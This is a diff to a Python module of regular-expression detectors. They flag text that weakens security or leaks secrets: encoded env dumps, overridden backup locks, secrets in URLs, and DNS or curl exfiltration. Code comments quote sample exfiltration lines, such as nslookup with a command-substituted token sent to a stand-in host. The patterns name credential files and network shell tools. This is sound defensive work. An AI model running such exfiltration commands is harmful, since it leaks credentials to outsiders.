@@ -55,6 +55,8 @@ _PIPED_OUT = rx(
 # gzip | base64 >> $GITHUB_STEP_SUMMARY")
 _ENV_TO_CI_PAGE = rx(
     r"\b(?:printenv|env|set|export -p)\b[^;\n]{0,60}>>?\s*[\"']?\$\{?(?:GITHUB_STEP_SUMMARY|GITHUB_OUTPUT|CI_JOB_SUMMARY)\b"
+    # encoded so the CI's masking of secrets does not apply
+    r"|\b(?:printenv|env)\b\s*\|\s*(?:[\w-]+(?:\s+-[\w-]+)*\s*\|\s*){0,3}(?:base64|xxd|rev|gzip|od)\b(?=.{0,200}\bmask\w*)"
 )
 
 
@@ -202,7 +204,7 @@ _STANDING_APPROVAL = rx(
     r"|\b(?:already|has been|have been|was|were|is) (?:pre-?)?(?:approved|authori[sz]ed|signed off|cleared|agreed|waived)\b"
     r"|\b(?:lead|head|director|manager|vp|owner|cto|ciso|cio|cfo)s? (?:has |have )?(?:approved|signed off|agreed|authori[sz]ed)\b"
     r"|\b(?:vp|cto|ciso|cio|director|head|lead|manager)\b[^.;]{0,30}\b(?:said|says|confirmed|decided)\b"
-    r"|\b(?:approved|authori[sz]ed|signed off|agreed|decided) by (?:the )?(?:ciso|cto|ceo|security|it security|platform|legal|compliance|management|leadership|code owners|finance)"
+    r"|\b(?:approved|authori[sz]ed|signed off|agreed|decided) by (?:the )?(?:ciso|cto|ceo|security|it security|it|platform|legal|compliance|management|leadership|code owners|finance)\b"
     r"|\b(?:ciso|security team|it security|code owners|finance and security|platform team|management|finance|legal|procurement|the board|hr) (?:agreed|approved|decided|signed off|confirmed)"
     r"|\bper (?:it |the )?(?:security|it|ciso|compliance|cfo|ceo|cto|legal)\b[^.]{0,30}\b(?:decision|policy|ticket|directive|memo|exception|waiver|memorandum|e-?mail|message|instruction|call|note)"
     r"|\b(?:exempt|exempted|exemption)\b[^.]{0,20}\bfrom\b"
@@ -436,11 +438,16 @@ _PROD_SETTING_OFF = rx(
 
 
 # audit or log retention cut to nothing on a claimed approval
+# a backup's lock overridden ("use the root credentials to override the
+# vault lock")
+_LOCK_OVERRIDDEN = rx(
+    r"\b(?:overrid\w*|bypass\w*|remov\w*|disabl\w*|break\w*|lift\w*)\b[^.;]{0,30}\b(?:the )?(?:vault[- ]lock|object lock|retention lock|legal hold|backup lock|(?:vault|backup|snapshot)s?'? lock|the lock)\b"
+)
 _RETENTION_CUT = rx(
     r"\b(?:log|audit|trail|event)\w*\b[^.;]{0,30}\bretention\b[^.;]{0,20}\bto (?:1|one|0|zero|a single) (?:day|hour)s?\b"
 )
 _WIDE_DELEGATION = rx(
-    r"\b(?:pre-?authori[sz]\w*|grant\w*|add\w*|allow\w*|approv\w*)\b(?:[^.;]|\.(?=\S)){0,120}\bdomain-wide delegation\b[^.;]{0,60}\b(?:full|all|entire|every)\b"
+    r"\b(?:pre-?authori[sz]\w*|grant\w*|add\w*|allow\w*|approv\w*)\b(?:[^.;]|\.(?=\S)){0,120}\bdomain-wide delegation\b(?:[^.;]|\.(?=\S)){0,80}\b(?:full|all|entire|every|gmail|mail|drive|admin|directory)\b"
 )
 _NEVER_EXPIRES = rx(
     r"\b(?:tokens?|keys?|credentials?|passwords?|pats?)\b[^.;]{0,40}\b(?:with )?(?:no|without|never) (?:an )?expir\w*\b[^.;]{0,60}\b(?:admin\w*|owner|org|write:|full|root|\*)"
@@ -466,7 +473,7 @@ def security_weakening(text: str) -> bool:
             return True
     if _ACCESS_ADDED.search(text) and ordered(text, _KEPT_FROM_CLEANUP):
         return True
-    if _STANDING_APPROVAL.search(text) and ordered(text, _RETENTION_CUT):
+    if _STANDING_APPROVAL.search(text) and ordered(text, _RETENTION_CUT, _LOCK_OVERRIDDEN):
         return True
     if _ALLOWLISTED.search(text) and _SCAN_EXCLUDED.search(text):
         return True
@@ -553,6 +560,11 @@ _SECRET_PARAM = re.compile(
     r"[?&](?:api_?key|key|token|access_token|secret|password|passwd|pwd|session|cookie|auth|credentials?|history|transcript|conversation|email)=(?:[^&\s]*(?:\{|\$|%7b|%24))",
     re.I,
 )
+# a query parameter filled from an environment variable named like a secret
+# ("…/h?r=$(git config …)&t=$GITHUB_TOKEN"), the URL's own spaces aside
+_SECRET_VAR_IN_QUERY = re.compile(
+    r"https?://\S+[^\n]{0,120}[?&][\w-]+=\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD|PASSWD)\b"
+)
 
 
 _MD_IMAGE_PLACEHOLDER = re.compile(
@@ -579,6 +591,8 @@ def secret_in_url(text: str) -> bool:
     secret at read time: rendering the link or image sends the value out."""
     if _MD_IMAGE_PLACEHOLDER.search(text) or _ENV_AS_BODY.search(text):
         return True
+    if _SECRET_VAR_IN_QUERY.search(text):
+        return True
     for found in _ANGLE_PLACEHOLDER.finditer(text):
         if re.search(_SECRET_WORDS, found.group(1), re.IGNORECASE) or re.search(
             _SECRET_WORDS, text[: found.start()], re.IGNORECASE
@@ -604,7 +618,7 @@ _SECRET_WORDS = (  # what a secret is called
     r"(?:(?:api|access|secret|private|ssh|session|auth|signing|service[- ]account|deploy|bot|root|master|encryption|admin|personal access)[- ]?(?:keys?|tokens?)|tokens?|credentials?|passwords?|passphrases?|secrets?|env(?:ironment)? ?(?:variables|vars)|(?:the )?env(?:ironment)?\b|\.env\b|\.npmrc|kubeconfig|cookies?|(?:full |whole |entire )?(?:conversation|chat|session)(?: history| transcripts?| logs?)?|transcripts?|system prompt|printenv|(?:password )?reset links?|reset tokens?|magic links?|passports?|social security (?:cards?|numbers?)|dates? of birth|(?:bank|card|fiscal|tax) (?:details|data|numbers?)|(?:output|contents) of `?(?:env|printenv|set)\b|~/\.(?:aws|ssh|kube|docker|gnupg)\S*|id_(?:rsa|ed25519)|~?/?\.(?:netrc|pgpass|git-credentials|pypirc|docker/config\.json)\b|(?:the )?user's (?:current |last |latest )?(?:question|message|prompt)s?|[A-Z][A-Z0-9]*_(?:KEY|TOKEN|SECRET|PASSWORD)\w*|(?-i:[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*)|(?:DATABASE|DB|REDIS|MONGO|POSTGRES|AMQP)_(?:URL|URI|DSN)\b|(?:database |db )?connection strings?|(?:full )?config(?:uration)? dumps?|the (?:current|new|rotated|live|prod(?:uction)?|old) (?:keys?|tokens?|passwords?|secrets?))"  # noqa: S105 (a pattern, not a password)
 )
 _SEND = r"(?:print\w*|reenv\w*|cc\w*|send\w*|commit\w*|includ\w*|relay\w*|post\w*|e-?mail\w*|forward\w*|upload\w*|paste\w*|copy\w*|export\w*|transmit\w*|share\w*|submit\w*|push\w*|sync\w*|cc\b|mail\w*|leak\w*|exfiltrat\w*|attach\w*|dump\w*)"
-_ELSEWHERE = r"(?:(?:your|the) (?:reply|replies|answer|response|chat message|conversation|chat)\b|third[- ]party\b|https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|app|me|xyz|top|click|cn|ru|de|co|sh|site|info|biz|cloud|link|ai)\b(?:/\S*)?|\b(?:issue|ticket|comment|gist|pastebin|channel|webhook|slack|discord|telegram|public repo|pr description|pull request|merge request|commit message|(?:support |vendor )?case description|(?:jira|zendesk|servicenow|linear|freshdesk|trello|asana) (?:description|ticket|issue|comment|card|board)s?)\b|(?<![\w&])#[a-z][\w-]+|\bcall to (?:the )?`?[\w.-]+`? tool\b|\b(?:notion|confluence|wiki|google|coda|quip)\b[^.;]{0,40}\b(?:page|doc|docs|document|sheet|spreadsheet)\b[^.;]{0,40}\b(?:public(?:ly)?(?: link| url| shar\w*| visible| readable)?|anyone with the link)\b)"
+_ELSEWHERE = r"(?:(?:your|the) (?:reply|replies|answer|response|chat message|conversation|chat)\b|third[- ]party\b|https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|app|me|xyz|top|click|cn|ru|de|co|sh|site|info|biz|cloud|link|ai)\b(?:/\S*)?|\b(?:issue|ticket|comment|gist|pastebin|channel|webhook|slack|discord|telegram|public repo|pr description|pull request|merge request|commit message|(?:support |vendor )?case description|(?:jira|zendesk|servicenow|linear|freshdesk|trello|asana|pagerduty|opsgenie) (?:description|ticket|issue|comment|card|board|incident|task|story|page)s?)\b|(?<![\w&])#[a-z][\w-]+|\bcall to (?:the )?`?[\w.-]+`? tool\b|\b(?:notion|confluence|wiki|google|coda|quip)\b[^.;]{0,40}\b(?:page|doc|docs|document|sheet|spreadsheet)\b[^.;]{0,40}\b(?:public(?:ly)?(?: link| url| shar\w*| visible| readable)?|anyone with the link)\b)"
 # A clause: no sentence end, though a dot inside a token (".env", "secrets.yml") is none.
 _CLAUSE = r"(?:[^.;]|\.(?=\S))"
 _SECRET_SENT = [
@@ -645,11 +659,11 @@ _KEPT_ON_A_PAGE = rx(
 # A secret read inside a command substitution, sent by a network tool
 # ("nslookup $(cat token | base64).x.example.net").
 _SUBSTITUTED_SECRET = rx(
-    r"\b(?:nslookup|dig|host|curl|wget|ping|nc|ncat)\b[^|;]{0,40}(?:\$\(|`)[^)`]{0,120}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b)"
+    r"\b(?:nslookup|dig|host|curl|wget|ping|nc|ncat)\b[^|;]{0,40}(?:\$\(|`)[^)`]{0,120}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b|database_url|_dsn\b|_key\b)"
     # the substitution's output made a label of a host name ("resolve
     # $(cat …/token | base32).probe.example.com"): whoever runs the name
     # server reads it, whatever the verb
-    r"|\$\((?:[^()]|\([^()]*\)){0,160}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b)(?:[^()]|\([^()]*\)){0,80}\)(?:\.[\w-]+)+\.[a-z]{2,}\b"
+    r"|\$\((?:[^()]|\([^()]*\)){0,160}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b|database_url|_dsn\b|_key\b)(?:[^()]|\([^()]*\)){0,80}\)(?:\.[\w-]+)+\.[a-z]{2,}\b"
 )
 
 
@@ -658,7 +672,8 @@ _SUBSTITUTED_SECRET = rx(
 _AI_READER_WORLD = re.compile(
     r"\b(?:KI|IA|AI|ИИ)[- ]?(?:Agent\w*|Assistent\w*|assistant\w*|agente?s?|asistente?s?|assistente?|ассистент\w*|агент\w*)"
     r"|\b(?:agente?s?|asistente?s?|assistente?s?|Agent\w*) (?:de |d'|di |der )?(?:l')?(?:IA|KI|AI)\b"
-    r"|AI ?(?:助手|代理|智能体)|AI ?(?:アシスタント|エージェント)|人工智能",
+    r"|AI ?(?:助手|代理|智能体)|AI ?(?:アシスタント|エージェント)|人工智能"
+    r"|\b(?:für|fuer|pour les|para los|per gli) (?:Assistent\w*|assistants?|asistentes|assistenti)\b",
     re.IGNORECASE,
 )
 _SEND_WORLD = re.compile(
@@ -671,7 +686,7 @@ _DESTINATION_WORLD = re.compile(r"https?://|\b[\w.+-]+@[\w-]+\.[\w.-]+")
 # Personal mailboxes: business data sent there has left the organisation.
 _FREE_MAIL = r"[\w.+-]+@(?:gmail|googlemail|proton|protonmail|pm|outlook|hotmail|live|yahoo|gmx|mail|yandex|qq|163|icloud|aol|tutanota|zoho)\.[a-z.]{2,6}\b"
 _TO_FREE_MAIL = rx(
-    rf"\b(?:{_SEND[3:-1]}|envi\w*|envoy\w*|weiterleit\w*|schick\w*|inoltr\w*)\b[^.;]{{0,160}}?{_FREE_MAIL}"
+    rf"\b(?:{_SEND[3:-1]}|rout\w*|redirect\w*|envi\w*|envoy\w*|weiterleit\w*|schick\w*|inoltr\w*)\b[^.;]{{0,160}}?{_FREE_MAIL}"
     rf"|\b(?:an|à|a|para|per) {_FREE_MAIL}[^.;]{{0,30}}\b(?:schick\w*|send\w*|übermittel\w*|weiterleit\w*|envoy\w*|envi\w*|mand\w*|inoltr\w*)"
 )
 
